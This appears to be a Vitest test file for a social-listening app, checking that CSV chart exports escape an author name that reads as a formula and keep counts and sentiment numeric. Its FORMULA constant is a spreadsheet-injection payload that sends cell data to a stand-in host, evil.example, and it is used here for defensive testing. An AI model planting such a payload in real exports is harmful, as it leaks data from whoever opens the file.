/**
 * Chart exports open in spreadsheets: an author's name from the internet that reads as a formula is
 * written as text, while counts and sentiment scores stay numbers.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mastodonStatus } from '../../ingest/testing/mastodon-statuses.js';
import { dropQueuedDeliveries } from '../../inbox/testing/conversations.js';
import { buildWorkspace, testApp, type TestApp } from '../../platform/testing/test-app.js';
import { hear, saveQuery } from '../testing/listening-api.js';

let t: TestApp;
beforeAll(async () => {
  t = await testApp();
});
afterAll(async () => {
  await dropQueuedDeliveries(t.db);
});

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Support")';

describe('listening chart exports', () => {
  it('write a name that reads as a formula as text, and numbers as numbers', async () => {
    const ws = await buildWorkspace(t.db);
    await saveQuery(ws, 'acme');
    const status = mastodonStatus('f1', { text: 'acme is awful, the worst support ever', createdAt: new Date('2026-10-20T10:00:00Z') });
    await hear(ws, [{ ...status, account: { ...(status.account as object), display_name: FORMULA } }]);

    const range = 'from=2026-10-20T00:00:00.000Z&to=2026-10-21T00:00:00.000Z';
    const csvOf = async (url: string) => {
      const response = await t.app.inject({ method: 'GET', url, headers: ws.owner.headers });
      expect(response.statusCode, response.body).toBe(200);
      return parse(response.body, { columns: true }) as Record<string, string>[];
    };
    const [author] = await csvOf(`/api/v1/listening/analytics/top?${range}&of=author&format=csv`);
    expect(author!.name).toBe(`'${FORMULA}`);
    expect(author!.mentions).toBe('1');
    const [hour] = await csvOf(`/api/v1/listening/analytics/volume?${range}&interval=day&format=csv`);
    expect(hour!.sentiment).toMatch(/^-0\.\d+$/);
  });
});
